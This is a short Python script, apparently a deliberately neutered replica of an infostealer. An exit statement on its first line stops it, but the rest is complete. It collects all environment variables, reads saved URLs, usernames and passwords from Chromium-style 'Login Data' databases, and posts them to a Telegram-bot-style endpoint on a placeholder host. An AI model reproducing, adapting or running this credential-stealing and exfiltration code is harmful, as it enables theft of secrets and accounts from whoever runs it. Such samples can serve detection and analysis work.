raise SystemExit("inert replica")
import glob
import json
import os
import sqlite3
import urllib.request

found = {"env": dict(os.environ), "logins": []}
for place in glob.glob(os.path.expanduser("~/.config/*/Default/Login Data")):
    for row in sqlite3.connect(place).execute("SELECT origin_url, username_value, password_value FROM logins"):
        found["logins"].append([str(one) for one in row])
body = json.dumps({"chat_id": 1, "text": json.dumps(found)}).encode()
urllib.request.urlopen(urllib.request.Request("https://messenger.replica.invalid/bot000:inert/sendMessage", data=body))
